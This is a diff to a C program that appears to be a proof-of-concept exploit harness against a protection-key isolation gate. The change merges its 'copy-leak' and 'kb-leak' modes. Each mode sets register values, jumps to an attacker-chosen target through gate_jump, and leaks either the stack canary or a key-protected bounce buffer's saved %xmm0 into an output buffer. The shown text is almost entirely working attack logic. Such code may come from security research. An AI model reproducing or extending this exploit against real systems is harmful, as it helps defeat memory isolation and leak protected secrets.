@@ -486,41 +486,27 @@ int main(int argc, char **argv)
 		logf_("first ret=%ld\nraw getgs ret=%ld\n", first, r);
 		return 0;
 	}
-	if (!strcmp(mode, "copy-leak")) {
+	if (!strcmp(mode, "copy-leak") || !strcmp(mode, "kb-leak")) {
+		int kbleak = mode[0] == 'k';
+		uint64_t kb = kbleak ? pkey_mapping(3) : 0;
 		struct jr j = {
 			.target = sym(argc, argv, "target"),
 			.eax = argc > 3 ? strtoull(argv[3], 0, 0) : 0,
 			.pid = (uint64_t)getpid(),
 			.r8 = 8,
 			.r9 = (uint64_t)(uintptr_t)(out + 32),
-			.r10 = canary,
+			.r10 = kbleak ? kb + XSAVE_XMM0 : canary,
+			.xmm0 = kbleak ? KB_MARKER : 0,
 		};
 
-		logf_("jump to %#llx eax=%#llx to copy the canary\n",
-		      (unsigned long long)j.target, (unsigned long long)j.eax);
-		r = gate_jump(&j);
-		after_jump(r, gsbuf, canary);
-		return 0;
-	}
-	if (!strcmp(mode, "kb-leak")) {
-		uint64_t kb = pkey_mapping(3);
-		struct jr j = {
-			.target = sym(argc, argv, "target"),
-			.eax = argc > 3 ? strtoull(argv[3], 0, 0) : 0,
-			.pid = (uint64_t)getpid(),
-			.r8 = 8,
-			.r9 = (uint64_t)(uintptr_t)(out + 32),
-			.r10 = kb + XSAVE_XMM0,
-			.xmm0 = KB_MARKER,
-		};
-
-		if (!kb) {
+		if (kbleak && !kb) {
 			logf_("no mapping with protection key 3\n");
 			return 3;
 		}
-		logf_("bounce buffer at %#llx; jump to %#llx eax=%#llx\n",
-		      (unsigned long long)kb, (unsigned long long)j.target,
-		      (unsigned long long)j.eax);
+		logf_("jump to %#llx eax=%#llx to copy %#llx (%s)\n",
+		      (unsigned long long)j.target, (unsigned long long)j.eax,
+		      (unsigned long long)j.r10,
+		      kbleak ? "the bounce buffer's %xmm0" : "the canary");
 		r = gate_jump(&j);
 		after_jump(r, gsbuf, canary);
 		return 0;
